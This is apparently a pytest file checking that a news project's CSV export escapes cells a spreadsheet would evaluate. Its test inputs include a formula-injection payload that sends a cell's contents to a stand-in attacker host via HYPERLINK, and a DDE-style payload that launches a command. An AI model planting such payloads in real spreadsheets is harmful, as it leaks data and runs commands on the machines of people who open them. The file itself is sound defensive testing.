"""The import's account as CSV: every line, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest

from psgnews.legacy.account import Entry, csv_text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_escaped(text: str) -> None:
    entries = [Entry("=page.html", 3, "body", "@issues/1/a.yaml", text)]
    [header, row] = list(csv.reader(io.StringIO(csv_text(entries), newline="")))
    assert header == ["page", "line", "became", "file", "text"]
    assert row == ["'=page.html", "3", "body", "'@issues/1/a.yaml", f"'{text}"]


def test_ordinary_text_is_kept_as_it_is() -> None:
    entries = [Entry("page.html", 1, "title", "issues/1/a.yaml", 'Lima, 3 "May": 5% = a lot')]
    [_, row] = list(csv.reader(io.StringIO(csv_text(entries), newline="")))
    assert row == ["page.html", "1", "title", "issues/1/a.yaml", 'Lima, 3 "May": 5% = a lot']
